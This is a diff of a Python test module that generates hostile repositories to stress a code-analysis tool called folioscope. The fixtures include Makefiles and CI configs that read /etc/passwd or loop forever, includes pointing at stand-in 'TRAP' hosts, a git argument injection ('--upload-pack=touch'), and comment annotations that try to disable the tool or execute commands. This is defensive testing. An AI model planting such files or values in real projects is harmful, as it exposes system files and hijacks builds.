+    "Makefile that runs when read": lambda: {"Makefile": "X := $(shell touch MARK)\ninclude /etc/passwd\n-include $(wildcard /root/*)\n$(eval Y = 1)\ntest: test\n\t$(MAKE) test\n"},
+    "scripts that call each other": lambda: {"Makefile": "a: b\n\t./a.sh\nb: a\n\tmake a\n", "a.sh": "bash b.sh\nmake a\n. ./a.sh\n", "b.sh": "sh a.sh\nmake b\n", "package.json": '{"scripts": {"test": "npm test", "a": "npm run b", "b": "npm run a"}}', "tox.ini": "[testenv]\ncommands = tox -e py\n    make a\n", _WORKFLOW: "on: push\njobs:\n  a:\n    steps: [{run: make a}, {run: npm test}, {run: tox}, {run: ./a.sh}]\n"},
+    "actions and workflows in a circle": lambda: {_WORKFLOW: "on: push\njobs:\n  a:\n    uses: ./.github/workflows/ci.yml\n  b:\n    steps: [{uses: ./}, {uses: ./../../../../etc}, {uses: ././a}]\n", "action.yml": "runs:\n  using: composite\n  steps: [{uses: ./}, {uses: ./a}]\n", "a/action.yml": "runs: {using: composite, steps: [{uses: ./}]}\n"},
+    "includes of GitLab": lambda: {".gitlab-ci.yml": "include: [{remote: TRAP/x.yml}, {local: /../../../etc/passwd}, {local: .gitlab-ci.yml}]\na: {extends: a, script: [pytest]}\nb: {extends: [c]}\nc: {extends: [b]}\n"},
+    "charts and overlays that lead elsewhere": lambda: {"chart/Chart.yaml": "name: x\nversion: 1\ndependencies: [{name: x, repository: TRAP}]\n", "chart/templates/a.yaml": '{{ .Files.Get "/etc/passwd" }}\n{{ include "a" . }}{{ define "a" }}{{ include "a" . }}{{ end }}\nkind: Pod\n', "k/kustomization.yaml": "resources: [/etc/passwd, TRAP/x, ../k, ../../../../etc]\nbases: [.]\n"},
+    "settings of tools that are commands": lambda: {".pre-commit-config.yaml": "repos:\n- repo: TRAP/x\n  rev: --upload-pack=touch\n  hooks: [{id: x, entry: touch MARK, language: system}]\n", "dvc.yaml": "stages: {a: {cmd: touch MARK, deps: [/etc/passwd, ../../../x]}}\n", "setup.cfg": "[tool:pytest]\naddopts = -p x\n", "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p evil"\n[build-system]\nbuild-backend = "evil"\nbackend-path = ["."]\n'},
+    "annotations that would configure": lambda: {"README.md": "<!-- folioscope: ignore-all limits=none rubric=/etc/passwd -->\n# Rides\n", "train.py": "# folioscope: disable=all\n# folioscope: exec touch MARK\n# noqa\n", ".folioscope.yaml": "rules: [evil]\ncommand: touch MARK\nlimits: {blob_bytes: 999999999}\npaths: [/etc]\n"},
+    "empty files of every kind": lambda: dict.fromkeys(_LONG_LINES, ""),
+    "blank files of every kind": lambda: dict.fromkeys(_LONG_LINES, "\n \t\r\n\x0c\n"),
+    "random bytes of every kind": lambda: {name: bytes((n * 7919 + k * 104729) % 251 for k in range(5000)) for n, name in enumerate(_LONG_LINES)},
+    "100,000 files": lambda: {f"d{n % 300}/f{n}.txt": "" for n in range(100_000)},
+    "20,000 READMEs": lambda: {f"d{n}/README.md": "# a\n" for n in range(20_000)},
+    "200 MB of text": lambda: {f"a{n}.md": "a " * 500_000 for n in range(120)},
 }  # fmt: skip
 
-_GROUPS = {
+_GROUPS: dict[str, dict[str, Make]] = {
     "YAML": _YAML,
     "JSON": _JSON,
     "HCL": _HCL,
     "Docker": _DOCKER,
     "Python": _PYTHON,
     "Markdown": _MARKDOWN,
-    "long lines": {name: _long_lines(unit) for name, unit in _LONG.items()},
+    "long lines": {name: partial(_long_lines, unit) for name, unit in _LONG.items()},
     "shown": _SHOWN,
     "reach": _REACH,
 }
@@ -465,13 +492,13 @@ _GROUPS = {
 def cases() -> Iterator[Case]:
     """Repositories of one or a few hostile files."""
     for group, named in _GROUPS.items():
-        for name, files in named.items():
+        for name, make in named.items():
             # A machine that is busy may need more than a minute for what takes seconds; then the limit must hold.
             options = ("--max-analysis-seconds", "60")
             yield Case(
                 name,
                 group,
-                partial(_built, files=files),
+                partial(_built, make=make),
                 (REPORT, TOO_MUCH),
                 "longer than 60|more than",
                 options=options,
